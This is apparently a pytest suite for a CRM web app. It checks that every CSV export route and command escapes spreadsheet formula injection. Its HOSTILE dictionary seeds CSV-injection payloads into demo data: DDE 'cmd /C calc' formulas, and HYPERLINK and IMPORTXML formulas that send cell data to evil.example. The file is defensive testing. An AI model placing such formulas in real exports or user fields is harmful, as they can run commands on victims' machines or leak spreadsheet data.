"""Every CSV the app hands out, by page or by command, goes through the one guarded writer.

Hostile values (formulas a spreadsheet would run) are seeded into the demo data where a CRM, a
customer or a colleague could type them; then every CSV route and CSV-writing command is fetched and
each cell is checked: the file starts with a UTF-8 BOM and no cell starts with = + - @ tab or CR.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import select, update

from app.auth.models import Role, User
from app.codebook.models import ReasonCode
from app.crm.importing.models import ImportBatch
from app.crm.models import Account, Competitor, Contact, Opportunity
from app.downloads import FORMULA_STARTS, GuardedCsvWriter, safe_cell, unguarded_cell
from app.extensions import db
from app.pipeline.models import Requalification, RequalificationStatus
from surveys.models import Answer, Survey
from tests.test_crm_import import SF_HEADER, import_path, write_csv

# Each hostile value carries a marker, so the scan also proves the seed reached the file.
MARK = "EVILCELL"
HOSTILE = {
    "account": f'=HYPERLINK("http://evil.example/?{MARK}","Open")',
    "opportunity": f"+{MARK}+1",
    "owner": f"@SUM(1+1){MARK}",
    "loss_reason": f"-2+3 {MARK}",
    "competitor": f"=cmd|' /C calc'!A0 {MARK}",
    "label": f"=1+1 {MARK} label",
    "definition": f"\t=1+1 {MARK} definition",
    "example": f"\r=1+1 {MARK} example",
    "next_step": f"=cmd|' /C calc'!A0 {MARK} next step",
    "answer": f'=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a") {MARK}',
    "user": f"@{MARK} Caller",
}
WIDE_PERIOD = {"from": "2020-01-01", "to": "2029-12-31"}
# Route → the query strings each of its tables is fetched with (a route may write several tables).
TABLES = {
    "reports.loss_reasons_csv": [{}, {"table": "trend"}],
    "reports.sales_vs_customers_csv": [{}, {"table": "owners"}, {"table": "mismatches"}],
    "reports.funnel_csv": [{}, {"table": "channels"}],
    "reports.sales_follow_up_csv": [{}, {"table": "reasons"}, {"table": "months"}],
}


def _csv_routes(app) -> list:
    return sorted(
        (
            rule
            for rule in app.url_map.iter_rules()
            if rule.rule.endswith((".csv", ".<fmt>")) or rule.endpoint == "pipeline.export"
        ),
        key=lambda rule: rule.rule,
    )


def _seed_hostile_values() -> None:
    for n, account in enumerate(db.session.scalars(select(Account))):
        account.name = f"{HOSTILE['account']} {n}"
    for opportunity in db.session.scalars(select(Opportunity)):
        opportunity.name = HOSTILE["opportunity"]
        opportunity.owner = HOSTILE["owner"]
        opportunity.crm_loss_reason = HOSTILE["loss_reason"]
    for n, competitor in enumerate(db.session.scalars(select(Competitor))):
        competitor.name = f"{HOSTILE['competitor']} {n}"
    for code in db.session.scalars(select(ReasonCode)):
        code.label, code.definition, code.example = (
            HOSTILE["label"],
            HOSTILE["definition"],
            HOSTILE["example"],
        )
    for requalification in db.session.scalars(select(Requalification)):
        requalification.next_step = HOSTILE["next_step"]
        requalification.owner = HOSTILE["owner"]
    db.session.execute(update(Answer).where(Answer.text.is_not(None)).values(text=HOSTILE["answer"]))
    db.session.execute(update(Contact).values(first_name=HOSTILE["owner"]))
    db.session.execute(update(User).where(User.role == Role.CALLER).values(name=HOSTILE["user"]))
    db.session.commit()


def _path_values(rule) -> list[dict]:
    first = {
        "code_id": db.session.scalar(select(ReasonCode.id).order_by(ReasonCode.id)),
        "competitor_id": db.session.scalar(select(Competitor.id).order_by(Competitor.id)),
        "batch_id": db.session.scalar(select(ImportBatch.id).order_by(ImportBatch.id.desc())),
        "survey_id": db.session.scalar(select(Survey.id).order_by(Survey.id)),
        "fmt": "csv",
        "code": "fr",  # a survey translation's language
    }
    if "step" in rule.arguments:
        from app.reports.funnel import DRILL_STEPS

        return [{"step": step} for step in DRILL_STEPS]
    return [{arg: first[arg] for arg in rule.arguments}]


def _unguarded_cells(text: str) -> tuple[list[str], bool]:
    """The cells a spreadsheet would read as a formula, and whether any seeded value came through."""
    assert text.startswith("\ufeff"), text[:80]
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    cells = [cell for row in rows for cell in row]
    return [cell for cell in cells if cell[:1] in FORMULA_STARTS], any(MARK in cell for cell in cells)


@pytest.fixture
def hostile_demo(own_demo, runner, tmp_path):
    """A copy of the demo data set (tests/demo_database.py), with hostile values seeded into it."""
    # A failed import row echoes its raw cells in the error file.
    row = {name: "" for name in SF_HEADER}
    row.update(
        {"Opportunity ID": "006BAD", "Opportunity Name": HOSTILE["opportunity"], "Stage": "Closed Lost"}
    )
    row.update({"Account Name": HOSTILE["account"], "Amount": f"=1+1{MARK}", "Close Date": "not a date"})
    import_path(runner, write_csv(tmp_path / "bad.csv", SF_HEADER, [[row[n] for n in SF_HEADER]]))
    _seed_hostile_values()
    assert db.session.scalar(
        select(Requalification.id).where(Requalification.status == RequalificationStatus.ACCEPTED)
    )


def test_every_csv_route_and_command_guards_every_cell(app, hostile_demo, login, make_user, runner, tmp_path):
    client = login(make_user(Role.ADMIN))
    fetched: dict[str, bool] = {}
    for rule in _csv_routes(app):
        for values in _path_values(rule):
            for query in TABLES.get(rule.endpoint, [{}]):
                url = rule.build(values, append_unknown=False)[1]
                if rule.endpoint == "pipeline.export":
                    responses = [client.post(url, data={"format": f}) for f in ("salesforce", "hubspot")]
                else:
                    responses = [client.get(url, query_string={**WIDE_PERIOD, **query})]
                for response in responses:
                    assert response.status_code == 200, (url, query, response.status_code)
                    assert response.mimetype == "text/csv", url
                    unguarded, seeded = _unguarded_cells(response.get_data(as_text=True))
                    assert unguarded == [], (url, query, unguarded[:3])
                    fetched[f"{url}?{query}"] = fetched.get(f"{url}?{query}", False) or seeded
    commands = {
        "codebook export": ["codebook", "export"],
        # --all: the pages above already exported (and marked) every accepted requalification.
        "pipeline export salesforce": ["pipeline", "export", "--all", "--format", "salesforce"],
        "pipeline export hubspot": ["pipeline", "export", "--all", "--format", "hubspot"],
    }
    for name, args in commands.items():
        path: Path = tmp_path / f"{name.replace(' ', '-')}.csv"
        result = runner.invoke(args=[*args, str(path)])
        assert result.exit_code == 0, result.output
        unguarded, seeded = _unguarded_cells(path.read_text(encoding="utf-8"))
        assert unguarded == [], (name, unguarded[:3])
        fetched[name] = seeded
    # The seeded values reached these files: the scan checked real hostile cells, not empty tables.
    must_carry_a_seed = [
        "/codebook/export.csv",
        "/imports/",
        "/pipeline/export",
        "/reports/loss-reasons.csv",
        "/reports/competitors.csv",
        "/reports/callers.csv",
        "/surveys/",
        "codebook export",
        "pipeline export salesforce",
        "pipeline export hubspot",
    ]
    for prefix in must_carry_a_seed:
        assert any(seeded for name, seeded in fetched.items() if name.startswith(prefix)), prefix


def test_the_csv_routes_scanned_are_every_csv_route(app):
    endpoints = {rule.endpoint for rule in _csv_routes(app)}
    assert len(endpoints) == 15, sorted(endpoints)


def test_the_guarded_writer_neutralises_formulas_and_keeps_other_cells():
    out = io.StringIO()
    writer = GuardedCsvWriter(out)
    writer.writerow(["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "plain", 3, None, "a=b"])
    assert out.getvalue() == "\ufeff'=1+1,'+1,'-1,'@A1,'\t=1,\"'\r=1\",plain,3,,a=b\r\n"
    assert [unguarded_cell(safe_cell(v)) for v in ("=1", "'plain", "plain")] == ["=1", "'plain", "plain"]


@pytest.mark.parametrize(
    "path",
    [
        "/reports/loss-reasons.csv",
        "/reports/sales-vs-customers.csv",
        "/reports/callers.csv",
        "/reports/funnel.csv",
        "/reports/funnel/enrolled.csv",
        "/reports/competitors.csv",
        "/reports/sales-follow-up.csv",
    ],
)
def test_report_csvs_refuse_dates_out_of_range_as_their_pages_do(login, make_user, path):
    client = login(make_user(Role.ADMIN))
    csv_response = client.get(path, query_string={"from": "0001-01-01", "to": "9999-12-31"})
    page = client.get(path.removesuffix(".csv"), query_string={"from": "0001-01-01", "to": "9999-12-31"})
    assert (csv_response.status_code, page.status_code) == (400, 400)
    assert "Enter the start date between 1900 and 2999." in csv_response.get_data(as_text=True)
    assert csv_response.mimetype == "text/html"
